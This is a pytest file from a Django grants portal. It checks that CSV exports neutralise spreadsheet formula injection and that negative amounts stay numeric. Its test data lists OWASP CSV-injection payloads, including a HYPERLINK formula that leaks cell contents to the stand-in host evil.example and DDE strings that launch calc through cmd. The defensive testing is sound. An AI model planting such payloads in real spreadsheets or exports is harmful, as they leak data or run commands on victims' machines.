"""No download can run a formula in a spreadsheet: the OWASP CSV-injection payloads, put where
visitors and staff can type, come out as text; negative numbers stay numbers."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from grants.enums import ApplicationState
from tests.factories import GrantApplicationFactory, TripFactory

pytestmark = pytest.mark.django_db

# From OWASP's "CSV Injection" page, and the leak reported in the issue.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&F3&G3,"Se sag")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1;=2+2",
]


# How each payload is shown: an apostrophe before each formula character that starts it or
# follows a separator, a tab or a line break (tests/portal/test_csv_either_separator.py,
# tests/test_second_review.py).
SHOWN = {"\t=1+1": "'\t'=1+1", "\r=1+1": "'\r'=1+1", "=1+1;=2+2": "'=1+1;'=2+2"}


def shown(payload: str) -> str:
    return SHOWN.get(payload, f"'{payload}")


def cells(response) -> list[list[str]]:
    text = response.getvalue().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def formulas(rows) -> list[str]:
    return [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_the_officers_export_neutralises_an_applicants_formula(client, grant_officer, payload):
    GrantApplicationFactory(applicant_name=payload, organisation=payload, purpose=payload)
    client.force_login(grant_officer)
    rows = cells(client.post(f"{reverse('grants:queue_csv')}?state=all", {"confirm": "on"}))
    assert formulas(rows) == []
    assert shown(payload) in rows[1]  # shown, as text


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_public_statistics_and_trips_neutralise_a_formula(client, payload):
    for _ in range(3):  # a group large enough to be published
        GrantApplicationFactory(
            state=ApplicationState.APPROVED,
            applicant_kind="youth_association",
            organisation=payload,
            organisation_may_be_published=True,
            amount_granted=Decimal("1000"),
            decided_at=timezone.now() - datetime.timedelta(days=40),
        )
    TripFactory(title=payload)
    for url in (reverse("grants:statistics"), reverse("travel:list")):
        rows = cells(client.get(url, {"format": "csv"}))
        assert formulas(rows) == [], url
        assert any(shown(payload) in row for row in rows), url


def test_a_negative_amount_stays_a_number(client):
    from tests.factories import BudgetLineFactory

    BudgetLineFactory(budget_year__year=2026, amount=Decimal("-10.50"))  # an overrun
    rows = cells(client.get(reverse("budgets:year", args=[2026]), {"format": "csv"}))
    assert "-10,50" in rows[1]
